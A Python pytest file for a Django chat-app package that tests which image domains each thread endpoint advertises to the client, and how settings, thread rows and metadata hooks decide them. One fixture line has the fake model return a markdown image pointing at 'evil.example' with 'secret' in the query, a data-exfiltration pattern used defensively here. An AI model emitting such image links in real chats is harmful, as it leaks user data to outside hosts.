"""From which hosts a client may load the images of a thread's texts."""

from __future__ import annotations

from typing import Any

import pytest
from chatkit import types
from django.urls import reverse

from chatkit_images.context import RequestContext
from chatkit_images.models import Run, Thread
from chatkit_images.runs.log import get_logs
from chatkit_images.testing import LoopbackAPI, Text
from tests.chat import TestServer
from tests.client import ChatClient, message, of_type, read_events, thread_id

STORAGE = {
    "BACKEND": "django.core.files.storage.InMemoryStorage",
    "OPTIONS": {"base_url": "https://cdn.shop.example:8443/media/"},
}
MARKDOWN = "![](https://evil.example/?q=secret)"


class Own(TestServer):
    """Decides by itself, with what the project has noted."""

    async def get_allowed_image_domains(
        self, thread: types.ThreadMetadata, context: RequestContext
    ) -> list[str] | None:
        """Return what the metadata says, else no restriction."""
        hosts: list[str] | None = thread.metadata.get("hosts")
        return hosts


async def doors(chat: ChatClient, model: LoopbackAPI) -> list[Any]:
    """Return what each door says of a thread with a new message."""
    model.respond_with(Text(MARKDOWN))
    events = await chat.say("hello")
    key = thread_id(events)
    found = [event["thread"] for event in of_type(events, "thread.created")]
    found += [event["thread"] for event in of_type(events, "thread.updated")]
    assert len(found) > 1
    listed = await chat.call("threads.list")
    found += [thread for thread in listed["data"] if thread["id"] == key]
    found.append(await chat.call("threads.get_by_id", thread_id=key))
    found.append(await chat.call("threads.update", thread_id=key, title="New"))
    # A run without a log is shown from its rows.
    run = await Run.objects.alatest("created_at")
    get_logs()._logs.clear()
    url = reverse("chatkit_images:run-events", args=[run.pk])
    stored = [event async for event in read_events(await chat.get(url))]
    found.append(stored[0]["thread"])
    return [thread.get("allowed_image_domains") for thread in found]


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({}, ["testserver"]),
        (
            {"BASE_URL": "https://shop.example:444"},
            ["shop.example", "shop.example:444"],
        ),
        (
            {"IMAGE_URLS": "storage"},
            ["testserver", "cdn.shop.example", "cdn.shop.example:8443"],
        ),
        ({"SERVER": f"{__name__}.Own"}, None),
    ],
    ids=["host", "BASE_URL", "storage", "hook"],
)
async def test_every_door_tells_the_hosts_and_no_row_has_them(
    chat: ChatClient,
    model: LoopbackAPI,
    settings: Any,
    more: dict[str, Any],
    expected: list[str] | None,
) -> None:
    settings.STORAGES = settings.STORAGES | {"chatkit_images": STORAGE}
    settings.CHATKIT_IMAGES = settings.CHATKIT_IMAGES | more
    found = await doors(chat, model)
    assert found == [expected] * len(found)
    row = await Thread.objects.aget()
    assert (row.title, row.allowed_image_domains) == ("New", None)


@pytest.mark.parametrize("chosen", [[], ["images.example"]])
async def test_what_a_thread_says_itself_wins(
    chat: ChatClient, model: LoopbackAPI, chosen: list[str]
) -> None:
    model.respond_with(Text("Hello."))
    key = thread_id(await chat.say("hello"))
    await Thread.objects.aupdate(allowed_image_domains=chosen)
    model.respond_with(Text("Hello."))
    await chat.say("again", key)
    thread = await chat.call("threads.update", thread_id=key, title="New")
    assert thread["allowed_image_domains"] == chosen
    assert (await Thread.objects.aget()).allowed_image_domains == chosen


async def test_the_hook_knows_the_metadata_of_the_thread(
    chat: ChatClient, model: LoopbackAPI, settings: Any
) -> None:
    settings.CHATKIT_IMAGES |= {"SERVER": f"{__name__}.Own"}
    model.respond_with(Text("Hello."))
    key = thread_id(await chat.say("hello"))
    await Thread.objects.aupdate(metadata={"hosts": ["a.example"]})
    (thread,) = (await chat.call("threads.list"))["data"]
    assert thread["allowed_image_domains"] == ["a.example"]
    assert not thread.get("metadata")
    params = {"thread_id": key, "input": message("again")}
    await Thread.objects.aupdate(title=None)
    model.respond_with(Text("Hello."))
    (event,) = of_type(
        await chat.stream("threads.add_user_message", **params), "thread.updated"
    )
    assert event["thread"]["allowed_image_domains"] == ["a.example"]
